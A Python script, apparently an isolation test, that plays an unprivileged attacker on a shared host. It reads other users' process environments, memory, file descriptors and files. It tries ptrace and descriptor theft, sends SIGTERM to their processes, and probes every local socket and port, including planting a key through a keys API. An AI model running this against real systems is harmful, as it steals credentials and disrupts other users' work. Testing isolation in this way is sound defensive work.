"""An attacker on a host of the job with a separate account: tries every name, file, socket, port and process that it
finds, and prints all bytes that it reads.

usage: other_user.py, as an unprivileged user
"""

import contextlib
import ctypes
import os
import pathlib
import resource
import signal
import socket
import stat
import sys

NOISE = (
    b"GET /v1/keys/ HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n",
    b"PUT /v1/keys/planted HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\n\r\nx",
    b"\x89HVD" + bytes(60),
    os.urandom(64),
)
FOLDERS = ("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/root", "/home")
LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE = 0x4206
PIDFD_GETFD = 438


def say(what, piece):
    sys.stdout.buffer.write(f"\n== {what}\n".encode() + piece)


def speak_to(family, kind, address):
    """Sends each request on a separate connection. Returns whether a connection was accepted."""
    accepted = False
    for noise in NOISE:
        with contextlib.suppress(OSError), socket.socket(family, kind) as peer:
            peer.settimeout(0.3)
            peer.connect(address)
            accepted = True
            peer.sendall(noise)
            say(f"answer of {address}", peer.recv(65536))
    return accepted


def unix_sockets():
    lines = pathlib.Path("/proc/net/unix").read_text(encoding="utf-8").splitlines()[1:]
    for name in {line.split()[7] for line in lines if len(line.split()) > 7}:
        address = "\0" + name[1:] if name.startswith("@") else name
        for kind in socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM:
            yield socket.AF_UNIX, kind, address


def address_of(digits):
    """Returns a socket's address in the format of the kernel's table, which has each word in host byte order."""
    words = bytes.fromhex(digits)
    packed = b"".join(words[at : at + 4][::-1] for at in range(0, len(words), 4))
    family = socket.AF_INET if len(packed) == 4 else socket.AF_INET6
    if not any(packed):
        packed = b"\x7f\0\0\1" if len(packed) == 4 else bytes(15) + b"\1"
    return family, socket.inet_ntop(family, packed)


def ports():
    for table in "tcp", "tcp6":
        for line in pathlib.Path(f"/proc/net/{table}").read_text(encoding="utf-8").splitlines()[1:]:
            (digits, _, port), state = line.split()[1].partition(":"), line.split()[3]
            if state == "0A" and int(port, 16) != 22:
                family, address = address_of(digits)
                yield family, socket.SOCK_STREAM, (address, int(port, 16))


def udp_ports():
    for table in "udp", "udp6":
        for line in pathlib.Path(f"/proc/net/{table}").read_text(encoding="utf-8").splitlines()[1:]:
            digits, _, port = line.split()[1].partition(":")
            family, address = address_of(digits)
            yield family, socket.SOCK_DGRAM, (address, int(port, 16))


def tasks(process):
    with contextlib.suppress(OSError):
        return list((process / "task").iterdir())
    return []


def control(pid):
    """Tries to read, slow down and change another user's process."""
    for what, attempt in (
        ("scheduling", lambda: os.sched_setaffinity(pid, {0})),
        ("priority", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)),
        ("limits", lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0))),
        ("memory", lambda: os.open(f"/proc/{pid}/mem", os.O_RDWR)),
        ("score", lambda: os.open(f"/proc/{pid}/oom_score_adj", os.O_WRONLY)),
        ("folder", lambda: os.listdir(f"/proc/{pid}/cwd")),
        ("root", lambda: os.listdir(f"/proc/{pid}/root")),
    ):
        with contextlib.suppress(OSError, ValueError):
            attempt()
            say(f"control {what} of {pid}", b"")
    if LIBC.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
        say(f"control trace of {pid}", b"")
    with contextlib.suppress(OSError):
        process = os.pidfd_open(pid)
        for number in range(64):
            if LIBC.syscall(PIDFD_GETFD, process, number, 0) >= 0:
                say(f"control descriptor {number} of {pid}", b"")
        os.close(process)


def shared_memory():
    """Returns the System V segments that other users may access, and the lines of all segments."""
    for kind in "shm", "sem", "msg":
        for line in pathlib.Path(f"/proc/sysvipc/{kind}").read_text(encoding="ascii").splitlines()[1:]:
            mode = int(line.split()[2], 8)
            say(f"system v {kind}", line.encode())
            if mode & 0o006:
                say(f"control system v {kind}", line.encode())


def processes():
    for entry in pathlib.Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        with contextlib.suppress(OSError):
            if entry.stat().st_uid == os.getuid():
                continue
            say(f"cmdline of {entry.name}", (entry / "cmdline").read_bytes())
        for thread in [entry, *tasks(entry)]:
            for name in "environ", "maps", "mem", "auxv", "stack", "syscall", "pagemap":
                with contextlib.suppress(OSError), open(thread / name, "rb") as file:
                    say(f"{name} of {entry.name}", file.read(65536))
            for name in "comm", "status", "wchan", "cgroup", "mountinfo", "limits":
                with contextlib.suppress(OSError), open(thread / name, "rb") as file:
                    say(f"public {name} of {entry.name}", file.read(65536))
        control(int(entry.name))
        with contextlib.suppress(OSError):
            for number in os.listdir(entry / "fd"):
                file = os.open(entry / "fd" / number, os.O_RDONLY | os.O_NONBLOCK)
                say(f"descriptor {number} of {entry.name}", b"")
                say("which holds", os.read(file, 65536))
        with contextlib.suppress(OSError):
            os.kill(int(entry.name), signal.SIGTERM)
            say(f"pid {entry.name}", b"took a signal")


def files():
    for folder in FOLDERS:
        for at, folders, names in os.walk(folder):
            for path in (os.path.join(at, name) for name in [*folders, *names]):
                with contextlib.suppress(OSError):
                    status = os.lstat(path)
                    if status.st_uid == os.getuid():
                        continue
                    say(f"name {path}", b"")
                    if stat.S_ISDIR(status.st_mode) and os.access(path, os.W_OK) and not status.st_mode & stat.S_ISVTX:
                        say(f"folder {path}", b"can be written by others")
                    if stat.S_ISREG(status.st_mode):
                        with open(path, "rb") as file:
                            say(f"content of {path}", file.read(1 << 20))
                        with open(path, "r+b"):
                            say(f"file {path}", b"can be written by others")


processes()
shared_memory()
files()
accepted = [
    address for family, kind, address in [*unix_sockets(), *ports(), *udp_ports()] if speak_to(family, kind, address)
]
say(f"accepted {accepted}", b"")
say("end", b"")
